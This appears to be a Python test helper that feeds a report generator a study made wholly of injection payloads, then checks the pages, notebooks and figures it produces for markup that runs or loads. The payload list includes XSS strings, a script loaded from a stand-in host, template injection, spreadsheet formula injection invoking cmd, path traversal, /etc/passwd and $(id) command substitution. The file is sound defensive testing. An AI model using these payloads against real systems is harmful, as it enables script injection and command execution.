"""Payloads, each with a marker of its own, a study that is made of them, and a reader that finds what a page took for markup."""

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import mistune
import pytest
import yaml

from live import KEY, live, variant
from loopback import answer, serve
from persona_collapse.export.package import Wishes, make_export
from persona_collapse.paths import ROOT
from persona_collapse.study.load_study import load_study

#: Places of a Vega-Lite specification that are run, or loaded, or set as markup.
RUN = {"expr", "filter", "calculate", "test", "signal", "update", "href", "url", "labelExpr", "html"}
#: {m} is the payload's marker; a payload that runs sets it on `window`, one that loads asks for http://{m}.invalid.
_TEMPLATES = [
    # markup
    "<script>window.{m}=1</script>",
    "</script><script>window.{m}=1</script>",
    "</ScRiPt ><script src=http://{m}.invalid/x.js></script>",
    "<!--</script><script>window.{m}=1</script>-->",
    "</title><script>window.{m}=1</script>",
    "</textarea></style></noscript><img src=x onerror=window.{m}=1>",
    "<img src=http://{m}.invalid/x.png onerror='window.{m}=1'>",
    "\"><img src=x onerror=window.{m}=1>",
    "' onmouseover='window.{m}=1",
    "\" autofocus onfocus=\"window.{m}=1\" data-{m}=\"",
    "<body onload=window.{m}=1>",
    "<details open ontoggle=window.{m}=1>{m}</details>",
    "<iframe srcdoc='<script>parent.{m}=1</script>'></iframe>",
    "<object data=http://{m}.invalid></object><embed src=http://{m}.invalid>",
    "<link rel=stylesheet href=http://{m}.invalid/x.css>",
    "<style>@import url(http://{m}.invalid/x.css)</style>",
    "<meta http-equiv=refresh content='0;url=http://{m}.invalid'>",
    "<base href=http://{m}.invalid/>",
    "<form action=http://{m}.invalid><input name={m} autofocus onfocus=window.{m}=1></form>",
    "<a href=javascript:window.{m}=1>{m}</a>",
    "<video><source onerror=window.{m}=1></video>",
    "</table></div></main><h1 id={m}>{m}</h1>",
    "&lt;img src=x onerror=window.{m}=1&gt;",
    "&#60;script&#62;window.{m}=1&#60;/script&#62;",
    # SVG and MathML
    "<svg onload=window.{m}=1>",
    "<svg><script>window.{m}=1</script></svg>",
    "<svg><a xlink:href=javascript:window.{m}=1><text>{m}</text></a></svg>",
    "<svg><image href=http://{m}.invalid/x.png /></svg>]]>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.{m}=1>",
    "<math href=javascript:window.{m}=1>{m}</math>",
    # Markdown and its formulae
    "[{m}](javascript:window.{m}=1)",
    "![{m}](http://{m}.invalid/x.png)",
    "<http://{m}.invalid>",
    "**<b id={m}>{m}</b>** `</code><script>window.{m}=1</script>`",
    "$\\href{{javascript:window.{m}=1}}{{{m}}}$",
    "$$\\text{{<img src=x onerror=window.{m}=1>}}$$",
    "| {m} | <script>window.{m}=1</script> |",
    # templates and Vega expressions
    "{{{{ 7*7 }}}}{{% import os %}}{m}",
    "${{window.{m}=1}}#{{window.{m}=1}}",
    "{{{{constructor.constructor('window.{m}=1')()}}}}",
    "datum.constructor.constructor('window.{m}=1')()",
    "'+datum.constructor.constructor('window.{m}=1')()+'",
    "\"]||datum.constructor.constructor('window.{m}=1')()||[\"",
    "{{\"signal\": \"event.view.eval('window.{m}=1')\"}}",
    "{{\"expr\": \"warn('{m}')\"}} \\u003cscript>window.{m}=1</script>",
    "__proto__ constructor toString {m}",
    # characters that act: ANSI, a title for the terminal, NUL, overrides of direction, line separators
    "\x1b[2J\x1b]0;{m}\x07\x1b[31m{m}",
    "{m}\x00<script>window.{m}=1</script>",
    "\u202e{m}\u2066<script>window.{m}=1</script>",
    "{m}\u2028window.{m}=1\u2029\x85",
    # spreadsheets
    "=HYPERLINK(\"http://{m}.invalid\",\"{m}\")",
    "@SUM(1+1)*cmd|'/C {m}'!A0",
    "+{m}|' /C calc'!A0",
    # paths
    "../../../../tmp/{m}",
    "file:///etc/passwd?{m}",
]  # fmt: skip
MARKERS = [f"pwn{number:02d}q" for number in range(len(_TEMPLATES))]
PAYLOADS = [template.format(m=marker) for template, marker in zip(_TEMPLATES, MARKERS, strict=True)]
#: Elements of a page of ours, outside formulae; none of them loads anything without an attribute that is looked at.
ELEMENTS = {
    "html", "head", "meta", "title", "link", "style", "script", "body", "div", "nav", "main", "header", "footer", "section",
    "article", "aside", "ol", "ul", "li", "a", "p", "em", "strong", "b", "i", "code", "pre", "span", "br", "hr", "blockquote",
    "h1", "h2", "h3", "h4", "h5", "h6", "dl", "dt", "dd", "cite", "sup", "sub", "small", "abbr", "time", "noscript", "button",
    "details", "summary", "figure", "figcaption", "img", "table", "caption", "colgroup", "col", "thead", "tbody", "tfoot", "tr",
    "th", "td", "label", "fieldset", "legend", "input", "select", "option", "mark", "form",
}  # fmt: skip
#: Attributes whose value is read out or shown, never run or loaded.
_READ = {"alt", "aria-label", "title", "content"}


class Found(HTMLParser):
    """Every element with its attributes, as a browser without script sees them, and the text of script elements."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag


def faults(text: str) -> list[str]:
    """What a page took for markup or would run or load although it came from a payload; empty for a page that is safe."""
    found = []
    for tag, attributes in Found(text).elements:
        whole = f"{tag} {attributes}"
        if tag not in ELEMENTS and not _is_formula(tag) and not _is_bar(tag, attributes):
            found.append(f"element {whole[:200]}")
        if tag in ("script", "link", "meta", "img", "a", "form") and not _ours(tag, attributes):
            found.append(f"loads or runs: {whole[:200]}")
        for name, value in attributes.items():
            if name.startswith("on") or name in ("srcdoc", "formaction", "action", "xlink:href", "background", "poster"):
                found.append(f"attribute {name} of {whole[:200]}")
            if "pwn" in name or ("pwn" in value and name not in _READ):
                found.append(f"payload in {name} of {whole[:200]}")
            if name == "style" and "url(" in value:
                found.append(f"style {value[:100]}")
    return found


def _is_bar(tag: str, attributes: dict[str, str]) -> bool:
    """Whether an element is of the bar of an interval, which holds numbers and nothing else."""
    of_numbers = all(re.fullmatch(r"[-\d. ]+|none|mark|true", value) for value in attributes.values())
    return tag in ("svg", "line", "circle") and bool(attributes) and of_numbers


def _is_formula(tag: str) -> bool:
    return tag == "math" or tag in {"mi", "mo", "mn", "mrow", "msub", "msup", "msubsup", "mfrac", "msqrt", "mtext", "mover",
                                    "munder", "munderover", "mspace", "mstyle", "mtable", "mtr", "mtd", "semantics"}  # fmt: skip


def _ours(tag: str, attributes: dict[str, str]) -> bool:
    """Whether an element that could load something is one that a page of ours has."""
    if tag == "script":
        return "src" not in attributes
    if tag == "link":
        return attributes.get("href") == "data:,"
    if tag == "meta":
        return attributes.get("http-equiv", "").lower() in ("", "content-security-policy")
    if tag == "form":  # the switches of a page, which send nothing
        return attributes.get("class") == "switches" and "action" not in attributes
    if tag == "img":
        return attributes.get("src", "").startswith(("data:image/svg+xml;base64,", "data:image/png;base64,"))
    if re.fullmatch(r"report\.html|replies\.html(#run=[\w.-]+/[\w.-]+)?", attributes.get("href", "")):
        return True  # the page beside
    return attributes.get("href", "#").startswith("#")


def lab(cells: list[dict]) -> str:
    """What JupyterLab makes of a notebook's cells before it sanitises: raw HTML in Markdown goes through."""
    render = mistune.create_markdown(escape=False, plugins=["table"])
    parts = []
    for cell in cells:
        for output in cell.get("outputs", []):
            data = output.get("data", {})
            if "text/html" in data:
                parts.append("".join(data["text/html"]))
            elif "text/markdown" in data:
                parts.append(str(render("".join(data["text/markdown"]))))
    return "\n".join(parts)


# --- a study made of payloads ----------------------------------------------------------------------------------------


#: The study file is called so; a slash cannot be in it.
NAME = "<img src=x onerror=pwn>{{7*7}} $(id)"


def texts(*, whole: bool = False) -> list[str]:
    """Payloads for places that take any text; with `whole` also those with a NUL, which ends a text in some formats."""
    return [payload for payload in PAYLOADS if whole or "\x00" not in payload]


def study(folder: Path, url: str):
    """A live study whose title, labels, stacks, models, personas, attributes, questionnaire are hostile."""
    with (folder / "deck.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["persona", "outlook"])
        writer.writerows([text, texts()[-1 - i % 3]] for i, text in enumerate(texts()))
    instrument = {
        "title": PAYLOADS[0], "source": PAYLOADS[1], "citation": PAYLOADS[31], "terms": PAYLOADS[6],
        "scale": {"low": 0, "high": 5}, "persona_prompt": "{persona} {item}", "prompts": {"only": "{text}?"},
        "items": [{"number": n, "block": "only", "foundation": foundation, "text": PAYLOADS[n]}
                  for n, foundation in enumerate([PAYLOADS[42], PAYLOADS[7]], start=1)],
    }  # fmt: skip
    (folder / "short.yaml").write_text(yaml.safe_dump(instrument), encoding="utf-8")
    variants = [
        variant("base", "base", model=PAYLOADS[1], label=PAYLOADS[41], stack=PAYLOADS[50]),
        variant("bad", "harmful", model=PAYLOADS[7], label=PAYLOADS[25], stack=PAYLOADS[31]),
    ]
    return live(
        folder, url, name=NAME, protocol={"repetitions": 3, "personas": len(texts())},
        title=" ".join(PAYLOADS), instrument="./short.yaml", personas="./deck.csv",
        families=[{"key": "a..b", "label": " ".join([*PAYLOADS[30:36], *PAYLOADS[46:50]]), "variants": variants}],
    )  # fmt: skip


def respond(request) -> tuple:
    """The first choice for the first item is the payload whose turn it is, all others are ratings; the server's names, too."""
    number = request.number
    wanted = request.get("n", 1)
    status, body = answer("4", model=f"served {PAYLOADS[1]}", n=wanted)
    body["system_fingerprint"] = PAYLOADS[7]
    for i, choice in enumerate(body["choices"]):
        text = PAYLOADS[number % len(PAYLOADS)] if i == 0 and number % 2 else str((number * 7 + i * number) % 6)
        choice["message"] = choice["message"] | {"content": text}
    return status, body


def report(folder: Path) -> tuple[Path, str]:
    """A report of that study, made by the command line in a copy of the project; its outputs and what the terminal showed."""
    for part in ("lib", "notebooks", "params"):
        shutil.copytree(ROOT / part, folder / part, ignore=shutil.ignore_patterns("__pycache__", ".ipynb_checkpoints"))
    shutil.copy2(ROOT / "CITATION.cff", folder)
    with serve(respond) as (url, _):
        command = [sys.executable, "-m", "persona_collapse", "report", "--study", str(study(folder, url).path)]
        environment = os.environ | {"TEST_KEY": KEY, "PYTHONPATH": str(folder / "lib")}
        done = subprocess.run(command, cwd=folder, env=environment, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return folder / "outputs" / NAME, done.stdout + done.stderr


def export(outputs: Path, folder: Path) -> Path:
    """The export of that report, reply texts included, with the figures of one notebook, made from a copy; its outputs."""
    copied = Path(shutil.copytree(outputs, folder / NAME))
    for path in (copied / "notebooks").rglob("*.ipynb"):
        if path.parent.name != "base" or path.stem != "02_metrics":
            path.write_text(json.dumps({"cells": []}), encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("persona_collapse.paths.OUTPUTS", folder)
        make_export(load_study(outputs.parent.parent / f"{NAME}.yaml"), Wishes(replies=True))
    return copied


def labelled(study, payload):
    """A study whose title, families, variants and stacks are all called `payload`."""
    families = [
        family.model_copy(
            update={
                "label": payload,
                "variants": tuple(
                    v.model_copy(update={"label": f"{payload} {v.key}", "stack": payload}) for v in family.variants
                ),
            }
        )
        for family in study.file.families
    ]
    return replace(study, file=study.file.model_copy(update={"title": payload, "families": tuple(families)}))


def assert_is_a_picture(svg):
    """Nothing in it runs, loads or leads anywhere."""
    for element in ElementTree.fromstring(svg).iter():
        assert element.tag.rpartition("}")[2] in {"svg", "g", "path", "text", "tspan", "rect", "line", "defs", "clipPath",
                                                  "linearGradient", "stop", "style", "title", "desc"}  # fmt: skip
        assert not [name for name in element.attrib if name.startswith("on") or name.endswith("href")]


def specifications(value, key=""):
    """Every string of a specification with the key it stands under."""
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from specifications(inner, name)
    elif isinstance(value, list):
        for inner in value:
            yield from specifications(inner, key)
    elif isinstance(value, str):
        yield key, value
